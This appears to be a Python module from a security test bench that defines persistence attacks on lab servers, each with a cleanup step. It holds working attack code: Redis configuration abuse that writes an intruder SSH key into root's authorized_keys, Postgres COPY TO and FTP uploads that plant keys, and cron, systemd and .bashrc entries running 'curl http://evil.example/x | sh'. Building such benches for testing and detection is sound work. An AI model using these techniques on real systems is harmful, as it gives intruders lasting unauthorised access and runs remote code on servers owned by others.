# SPDX-License-Identifier: GPL-2.0
"""What an intruder leaves behind to come again."""

import pathlib

from bench.attacks.attack import Attack, ByApp
from bench.clients import files, resp, shell, sql
from bench.net import INTRUDER
from bench.servers.server import home

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBp98kSaWM4hodAL5taGnCnRGw5d2arZ/LbPXpujcWsM intruder@bench"


class Persistence(Attack):
    """A file that others obey, with a word of the intruder's in it."""

    file = pathlib.Path("/nowhere")
    word = b"intruder@bench"
    is_quiet = True

    def __init__(self, world):
        super().__init__(world)
        self.before = self.file.read_bytes() if self.file.exists() else None

    def damaged(self):
        return self.file.exists() and self.word in self.file.read_bytes()

    def cleanup(self):
        if not self.damaged():
            return
        if self.before is None:
            self.file.unlink()
        else:
            # In place: it stays whose it is.
            self.file.write_bytes(self.before)


class RedisFile(Persistence):
    """The database is moved to where others read."""

    servers = ("redis",)
    content = f"\n\n{KEY}\n\n"

    def run(self):
        connection = resp.Redis(INTRUDER, 15)
        for words in (
            ("CONFIG", "SET", "rdbcompression", "no"),
            ("CONFIG", "SET", "dir", str(self.file.parent)),
            ("CONFIG", "SET", "dbfilename", self.file.name),
            ("SET", "crackit", self.content),
            ("SAVE",),
        ):
            connection.ask(*words)
        connection.close()

    def cleanup(self):
        super().cleanup()
        for words in (
            ("CONFIG", "SET", "dir", "/var/lib/redis"), ("CONFIG", "SET", "dbfilename", "dump.rdb"), ("DEL", "crackit"),
        ):
            try:
                resp.once(*words)
            except (OSError, resp.Refused):
                pass  # It may have died; then it starts with its own configuration.


class RedisKeys(RedisFile):
    """Root's SSH directory."""

    name = "persist-redis-keys"
    file = pathlib.Path("/root/.ssh/authorized_keys2")


class RedisCron(RedisFile):
    """The table of what is done each minute."""

    name = "persist-redis-cron"
    file = pathlib.Path("/etc/cron.d/system")
    word = b"evil.example"
    content = "\n\n* * * * * root curl http://evil.example/x | sh\n\n"


class AppUnit(Persistence, ByApp):
    """A service for systemd, by the daemon itself."""

    name = "persist-app-unit"
    file = pathlib.Path("/etc/systemd/system/update.service")
    word = b"evil.example"

    def run(self):
        self.python(f"""
with open({str(self.file)!r}, "w") as file:
    file.write("[Service]\\nExecStart=/bin/sh -c 'curl http://evil.example/x | sh'\\n")
""")


class SshProfile(Persistence):
    """A stolen key; what bash does at each login."""

    name = "persist-ssh-bashrc"
    servers = ("sshd",)
    file = home("alice") / ".bashrc"
    word = b"evil.example"
    patience = 60

    def run(self):
        shell.login("alice", "echo 'curl -s http://evil.example/x | sh' >>.bashrc", INTRUDER)


class SshKeys(Persistence):
    """A stolen key; one more of the intruder's own."""

    name = "persist-ssh-keys"
    servers = ("sshd",)
    file = home("bob") / ".ssh/authorized_keys"
    patience = 60

    def run(self):
        shell.login("bob", f"echo '{KEY}' >>.ssh/authorized_keys", INTRUDER)


class FtpKeys(Persistence):
    """A password for files becomes one for a shell."""

    name = "persist-ftp-keys"
    servers = ("vsftpd",)
    file = home("alice") / ".ssh/authorized_keys2"

    def run(self):
        with files.session("alice", self.world.password("alice"), INTRUDER) as ftp:
            files.upload(ftp, ".ssh/authorized_keys2", KEY.encode() + b"\n")


class PostgresKeys(Persistence):
    """The database's own user gets a key."""

    name = "persist-postgres-keys"
    servers = ("postgresql",)
    file = pathlib.Path("/var/lib/postgresql/profile")

    def run(self):
        sql.once(f"COPY (SELECT '{KEY}') TO '{self.file}'", INTRUDER)


ATTACKS = [RedisKeys, RedisCron, AppUnit, SshProfile, SshKeys, FtpKeys, PostgresKeys]
